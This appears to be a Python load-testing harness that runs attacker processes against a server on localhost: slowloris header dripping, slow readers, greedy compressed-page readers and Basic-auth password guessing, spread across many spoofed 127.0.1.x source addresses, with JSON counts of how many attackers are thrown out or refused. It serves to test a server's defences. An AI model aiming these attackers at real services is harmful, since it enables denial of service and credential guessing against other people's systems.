# SPDX-License-Identifier: MIT
"""Attackers, each a process of its own, so that they do not slow down who measures.

    attack.py drip PORT SECONDS [count] [idle]     slowloris: a header byte a second, and silence
    attack.py sip PORT SECONDS [count] [again]     slow readers: a KiB a second of a page
    attack.py loop PORT SECONDS [count]            greedy readers: compressed pages, one after another
    attack.py guess PORT SECONDS [count]           guessers of passwords, half of them of alice's

Attackers come from many addresses (127.0.1.1 and so on) and come back when they are thrown out,
`sip` only if `again` is 1. Each prints one JSON line at its end.
"""
import base64
import collections
import itertools
import json
import select
import socket
import sys
import time

IP_BIND_ADDRESS_NO_PORT = 24
SLICES = 20  # of a second: not all act at once
REQUEST = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n"
GONE = select.POLLHUP | select.POLLRDHUP | select.POLLERR


def connect(port, number, receive_buffer=None):
    """A connection that may still be on its way."""
    client = socket.socket()
    client.setblocking(False)
    if receive_buffer:
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    # A reset at the end, or the ports of this machine would run out.
    client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
    client.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
    client.bind((f"127.0.1.{number % 250 + 1}", 0))
    client.connect_ex(("127.0.0.1", port))
    return client


def is_gone(client):
    poll = select.poll()
    poll.register(client, select.POLLRDHUP)
    return any(event & GONE for _, event in poll.poll(0))


def send(client, data):
    try:
        client.send(data, socket.MSG_NOSIGNAL)
    except OSError:
        pass  # not connected yet, or not any more: the next turn will see


def every_second(count, end, act):
    """act(i) for each of `count` attackers once a second, evenly spread, until `end`."""
    begin, turn = time.monotonic(), 0
    while time.monotonic() < end:
        for i in range(turn % SLICES, count, SLICES):
            act(i)
        turn += 1
        time.sleep(max(0, begin + turn / SLICES - time.monotonic()))


def drip(port, seconds, count=1000, idle=200):
    endless = b"X-Drip: " + b"a" * 100000
    clients = [None] * (count + idle)
    sent = [0] * (count + idle)
    seen = {"connections": 0, "thrown_out": 0}

    def act(i):
        if clients[i] and is_gone(clients[i]):
            clients[i].close()
            clients[i] = None
            seen["thrown_out"] += 1
        if not clients[i]:
            clients[i], sent[i] = connect(port, i), 0
            seen["connections"] += 1
        elif i < count:
            data = REQUEST if sent[i] == 0 else endless[sent[i]:sent[i] + 1]
            send(clients[i], data)
            sent[i] += 1

    every_second(count + idle, time.monotonic() + seconds, act)
    seen["held_at_end"] = sum(1 for client in clients if client and not is_gone(client))
    return seen


def sip(port, seconds, count=200, again=0):
    begin = time.monotonic()
    clients = [None] * count
    since = [0.0] * count
    seen = {"connections": 0, "cut": 0, "longest_s": 0.0, "read_bytes": 0}

    def act(i):
        client = clients[i]
        if client is None:
            clients[i], since[i] = connect(port, i, receive_buffer=1024), time.monotonic()
            seen["connections"] += 1
            select.select([], [clients[i]], [], 1)
            send(clients[i], REQUEST + b"\r\n")
        elif client:
            seen["longest_s"] = max(seen["longest_s"], time.monotonic() - since[i])
            if is_gone(client):
                client.close()
                seen["cut"] += 1
                clients[i] = None if again else False
            else:
                try:
                    seen["read_bytes"] += len(client.recv(1024))
                except OSError:
                    pass

    every_second(count, begin + seconds, act)
    seen["held_at_end"] = sum(1 for client in clients if client)
    return seen


def hurry(port, seconds, count, make_request):
    """Each asks, reads all, and asks again on a new connection: how many got each status ("" where
    none came), and bytes."""
    end, epoll, clients = time.monotonic() + seconds, select.epoll(), {}
    heads, statuses, received = {}, collections.Counter(), 0

    def begin(number):
        client = connect(port, number)
        clients[client.fileno()] = (client, number)
        heads[client.fileno()] = b""
        epoll.register(client, select.EPOLLOUT)

    def finish(fd):
        client, number = clients.pop(fd)
        statuses[heads.pop(fd).decode()] += 1
        epoll.unregister(client)
        client.close()
        begin(number)

    for i in range(count):
        begin(i)
    while time.monotonic() < end:
        for fd, event in epoll.poll(0.1):
            client = clients[fd][0]
            if event & select.EPOLLOUT:
                send(client, make_request())
                epoll.modify(fd, select.EPOLLIN)
                continue
            try:
                data = client.recv(1 << 20)
            except OSError:
                data, heads[fd] = b"", b""
            received += len(data)
            if not data:
                finish(fd)
            elif not heads[fd]:
                heads[fd] = data[9:12]
    return statuses, received


def loop(port, seconds, count=64):
    request = REQUEST + b"Accept-Encoding: gzip\r\nConnection: close\r\n\r\n"
    statuses, received = hurry(port, seconds, count, lambda: request)
    failed, pages = statuses.pop("", 0), statuses.pop("200", 0)
    return {"pages": pages, "refused": statuses.total(), "failed": failed, "read_bytes": received}


def guess(port, seconds, count=50):
    numbers = itertools.count()

    def request():
        number = next(numbers)
        credential = f"{'alice' if number % 2 else 'nobody'}:{number}".encode()
        return (REQUEST + b"Connection: close\r\nAuthorization: Basic " +
                base64.b64encode(credential) + b"\r\n\r\n")

    return hurry(port, seconds, count, request)[0]


if __name__ == "__main__":
    result = globals()[sys.argv[1]](*map(int, sys.argv[2:]))
    print(json.dumps(result))
